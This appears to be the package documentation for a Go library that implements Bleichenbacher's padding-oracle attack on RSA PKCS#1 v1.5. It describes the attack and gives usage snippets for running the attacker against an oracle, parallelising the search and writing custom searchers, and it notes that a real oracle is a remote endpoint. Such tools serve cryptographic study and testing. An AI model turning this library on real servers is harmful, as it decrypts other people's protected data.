// Package bleichenbacher implements the adaptive chosen-ciphertext attack
// of Bleichenbacher (CRYPTO '98) against RSA with PKCS#1 v1.5 encryption
// padding: given only an oracle that reveals whether a ciphertext decrypts
// to a block starting 0x00 0x02, it recovers the complete plaintext of a
// target ciphertext without the private key.
//
// # Quick Start
//
//	import "github.com/mahdiidarabi/rsa-bleichenbacher/pkg/bleichenbacher"
//
//	// The oracle is the victim; in a real attack it is a remote endpoint.
//	oracle := bleichenbacher.NewPaddingOracle(keyPair.Private)
//
//	attacker := bleichenbacher.New(ciphertext, keyPair.Public, oracle)
//	padded, err := attacker.Run(ctx)
//	if err != nil {
//	    log.Fatal(err)
//	}
//
//	// The result is still PKCS#1-padded.
//	msg, err := bleichenbacher.Unpad(bleichenbacher.PaddedBytes(padded, keyPair.Public.ByteLen()))
//
// # Customization
//
// The linear multiplier searches can be tuned or parallelized:
//
//	attacker := bleichenbacher.New(c, pub, oracle).
//	    WithSearcher(bleichenbacher.ParallelSearcher{Workers: 16}).
//	    WithMaxQueries(1 << 20)
//
// # Custom Searchers
//
// Implement the Searcher interface to control how multiplier candidates
// are probed:
//
//	type MySearcher struct{}
//
//	func (MySearcher) Search(ctx context.Context, oracle bleichenbacher.Oracle, blind func(*big.Int) *big.Int, start *big.Int, limit uint64) (*big.Int, error) {
//	    // Your scan logic; return the smallest conformant s >= start.
//	}
package bleichenbacher
